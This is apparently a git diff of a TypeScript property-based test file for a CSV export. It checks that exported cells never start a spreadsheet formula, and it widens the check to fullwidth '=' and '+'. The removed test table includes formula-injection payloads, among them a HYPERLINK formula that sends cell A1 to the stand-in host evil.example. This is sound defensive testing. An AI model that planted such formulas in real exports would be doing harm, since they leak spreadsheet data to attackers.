@@ -1,9 +1,10 @@
 import type { Verification } from '@bollard/contracts'
 import { exportColumns, verificationSchema } from '@bollard/contracts'
-import { array, assert, constantFrom, oneof, property, string } from 'fast-check'
+import { array, assert, constantFrom, oneof, property } from 'fast-check'
 import { expect, test } from 'vitest'
+import { anyText } from '../testing/any-text.ts'
 import { readCsv } from '../testing/read-csv.ts'
-import { csvCell, csvHead, csvLine } from './csv.ts'
+import { csvHead, csvLine } from './csv.ts'
 
 const plain: Verification = verificationSchema.parse({
   verificationId: '01941f29-7c00-7000-8000-000000000001',
@@ -87,40 +88,34 @@ test('a line has every column in the documented order', () => {
   })
 })
 
-test.for([
-  ['=HYPERLINK("https://evil.example/?"&A1)', `'=HYPERLINK("https://evil.example/?"&A1)`],
-  ['+1', `'+1`],
-  ['-2+3', `'-2+3`],
-  ['@SUM(1)', `'@SUM(1)`],
-  ['\t=1', `'\t'=1`],
-  ['\r=1', `'\r'=1`],
-  ['\n=1', `'\n'=1`],
-  ['login;=HYPERLINK("https://evil.example/?"&A1);', `login;'=HYPERLINK("https://evil.example/?"&A1);`],
-  ['a; "-1', `a; "'-1`],
-  ['a\n\uff1d1', `a\n'\uff1d1`],
-  ['a; b-1', 'a; b-1'],
-  ['\uff1d1', `'\uff1d1`],
-  ['a=1', 'a=1'],
-])('%j is written as a text that no spreadsheet calculates', ([value = '', expected]) => {
-  expect(readCsv(`${csvCell(value)}\r\n`)).toEqual([[expected]])
-})
-
-test('numbers stay numbers, also below zero', () => {
-  expect([csvCell(-5), csvCell(0.25), csvCell(0), csvCell(true), csvCell(null), csvCell(undefined)]).toEqual([
-    '-5',
-    '0.25',
-    '0',
-    'true',
-    '',
-    '',
-  ])
-})
-
 const nasty = oneof(
-  string({ unit: 'binary', maxLength: 30 }),
-  array(constantFrom('"', ',', '\r', '\n', '\r\n', '=', '+', '-', '@', '\t', ' ', "'", ';', '\ufeff', 'ü', '💥', 'a'), {
-    maxLength: 12,
-  }).map((parts) => parts.join('')),
+  anyText(30),
+  array(
+    constantFrom(
+      '"',
+      ',',
+      '\r',
+      '\n',
+      '\r\n',
+      '=',
+      '+',
+      '-',
+      '@',
+      '\uff1d',
+      '\uff0b',
+      '\t',
+      ' ',
+      "'",
+      ';',
+      '\ufeff',
+      'ü',
+      '💥',
+      'a',
+    ),
+    {
+      maxLength: 12,
+    },
+  ).map((parts) => parts.join('')),
 )
 
 test('whatever people have written reads back as it was but for apostrophes, and starts no formula, also where semicolons separate cells', () => {
@@ -140,8 +135,8 @@ test('whatever people have written reads back as it was but for apostrophes, and
       ] as const) {
         const read = records[1]?.[exportColumns.indexOf(column)] ?? ''
         expect(read.replaceAll("'", '')).toBe(value.replaceAll("'", ''))
-        expect(read).not.toMatch(/^[=+\-@\t\r\n]/u)
-        for (const cell of read.split(/[;\t\r\n]/u).slice(1)) expect(cell).not.toMatch(/^["\s]*[=+\-@]/u)
+        expect(read).not.toMatch(/^[=+\-@\t\r\n\uff1d\uff0b]/u)
+        for (const cell of read.split(/[;\t\r\n]/u).slice(1)) expect(cell).not.toMatch(/^["\s]*[=+\-@\uff1d\uff0b]/u)
       }
     }),
     { numRuns: 2_000 },
